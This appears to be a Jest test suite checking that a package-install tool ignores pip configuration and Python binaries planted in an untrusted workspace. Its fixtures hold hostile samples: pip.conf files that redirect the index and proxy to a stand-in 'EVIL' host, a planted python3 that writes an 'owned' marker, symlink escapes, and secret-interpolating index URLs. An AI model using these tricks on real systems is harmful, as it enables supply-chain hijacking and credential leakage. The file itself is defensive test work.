import { access, mkdir, symlink } from 'node:fs/promises'
import { join } from 'node:path'
import { describe, expect, it } from '@jest/globals'
import { errorOf } from '../e2e/stand.ts'
import { SECRETS, useRegistries } from './registry-stand.ts'

const stand = useRegistries()
/** npm's registry has no engine, so that of Python is asked. */
const ENV = { npm_config_registry: 'http://GOOD/', PIP_NO_INDEX: undefined }
const PYTHON = '#!/bin/sh\necho http://GOOD/simple\n'
const STOLEN = '#!/bin/sh\ntouch FOLDER/owned\necho http://EVIL/simple\n'
const EVIL = '[global]\nindex-url = http://EVIL/simple\nproxy = http://EVIL\n'

/** The index of the company was asked for the engine behind npm's registry; it had none, and so the run failed. */
function expectAsked(authorization?: string): void {
  expect(stand.good.received.map(({ method, url }) => `${method} ${url}`)).toEqual([
    expect.stringMatching(/^GET \/hyperdb-mcp-[\w-]+\/-\/hyperdb-mcp-[\w.-]+\.tgz$/),
    'GET /simple/tableauhyperapi/'
  ])
  expect(stand.good.received[1]?.headers.authorization).toBe(authorization)
}

describe('17 What says where the registry of Python is', () => {
  it.each<Record<string, string>>([
    { PIP_CONFIG_FILE: 'FOLDER/workspace/pip.conf' },
    { PIP_CONFIG_FILE: 'pip.conf' },
    { PIP_CONFIG_FILE: 'FOLDER/temp/../workspace/pip.conf' },
    { PIP_CONFIG_FILE: 'FOLDER/link' },
    { PIP_CONFIG_FILE: 'FOLDER/workspace/outside' },
    { VIRTUAL_ENV: 'FOLDER/workspace' },
    { VIRTUAL_ENV: 'FOLDER/way' },
    { HOME: 'FOLDER/workspace' },
    { XDG_CONFIG_HOME: 'FOLDER/workspace' },
    { XDG_CONFIG_DIRS: 'FOLDER/way:FOLDER/workspace' }
  ])('a file of the workspace: %j', async env => {
    const step = await stand.attack({
      files: {
        'workspace/pip.conf': EVIL,
        'workspace/.pip/pip.conf': EVIL,
        'workspace/pip/pip.conf': EVIL,
        elsewhere: EVIL
      },
      programs: { 'bin/python3': PYTHON },
      path: 'FOLDER/bin',
      env: { ...ENV, ...env },
      async prepare(folder) {
        await symlink('workspace/pip.conf', join(folder, 'link'))
        await symlink('workspace', join(folder, 'way'))
        await symlink('../elsewhere', join(folder, 'workspace/outside'))
      }
    })
    expectAsked()
    expect(errorOf(step)).toMatch(/^engine\.download: /)
    expect(step.annotations).toContainEqual({
      level: 'warning',
      message: expect.stringContaining('is not read, because it lies in the workspace')
    })
  })

  it.each(Object.keys(SECRETS))('the pip.conf of the user puts %s nowhere', async name => {
    const value = `\${${name}}`
    await stand.attack({
      files: {
        'home/.pip/pip.conf': `[global]\nindex-url = http://x:${value}@GOOD/simple\nproxy = http://${value}:x@GOOD\n`
      },
      env: { ...ENV, npm_config_registry: undefined, PIP_PROXY: undefined },
      programs: { 'bin/npm': '#!/bin/sh\necho \'{"registry":"http://GOOD/"}\'\n' },
      path: 'FOLDER/bin'
    })
    expect(stand.good.received.length).toBeGreaterThan(0)
  })

  it.each([
    'FOLDER/bin',
    '.:FOLDER/bin',
    'FOLDER/workspace/bin:FOLDER/bin',
    'FOLDER/way/bin:FOLDER/bin',
    'FOLDER/mixed:FOLDER/bin'
  ])('no Python of the workspace is asked: PATH=%s', async path => {
    let owned = true
    await stand.attack({
      files: { 'workspace/pip/__init__.py': 'raise SystemExit("owned")\n' },
      programs: { 'bin/python3': PYTHON, 'workspace/python3': STOLEN, 'workspace/bin/python3': STOLEN },
      path,
      env: { ...ENV, PYTHONPATH: 'FOLDER/workspace', PYTHONSTARTUP: 'FOLDER/workspace/pip/__init__.py' },
      async prepare(folder) {
        await symlink('workspace', join(folder, 'way'))
        await mkdir(join(folder, 'mixed'))
        await symlink('../workspace/bin/python3', join(folder, 'mixed/python3'))
      },
      async inspect(folder) {
        owned = await access(join(folder, 'owned')).then(
          () => true,
          () => false
        )
      }
    })
    expectAsked()
    expect(owned).toBe(false)
  })

  it("the company's own password still works: in the pip.conf of the user", async () => {
    const conf = '[global]\nindex-url = http://ann:of-the-company@GOOD/simple\n'
    await stand.attack({ files: { 'home/.config/pip/pip.conf': conf }, env: ENV })
    expectAsked(`Basic ${Buffer.from('ann:of-the-company').toString('base64')}`)
    expect(stand.good.received[0]?.headers.authorization).toBeUndefined()
  })
})
